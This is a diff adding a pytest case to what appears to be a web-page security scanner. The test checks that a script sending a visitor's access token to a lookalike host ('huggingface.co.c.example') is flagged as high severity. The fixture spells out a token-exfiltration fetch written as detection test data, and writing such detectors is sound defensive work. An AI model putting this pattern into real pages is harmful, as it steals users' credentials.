@@ -78,3 +78,13 @@ def test_fetching_decoding_and_keys_are_no_sign_by_themselves(text):
 )
 def test_pages(page, high):
     assert (worst(f"<html>{page}</html>", "index.html") >= Severity.HIGH.rank) is high
+
+
+@pytest.mark.parametrize(
+    ("host", "high"),
+    [("huggingface.co", False), ("router.huggingface.co", False), ("huggingface.co.c.example", True)],
+)
+def test_a_visitors_token_goes_to_the_hub_alone(host, high):
+    page = f'<script>const r = await sign(); fetch("https://{host}/x", {{headers: {{a: r.accessToken}}}})</script>'
+    found = [finding.severity.rank for finding in inspect(page.encode(), "index.html").findings]
+    assert (max(found, default=0) >= Severity.HIGH.rank) is high
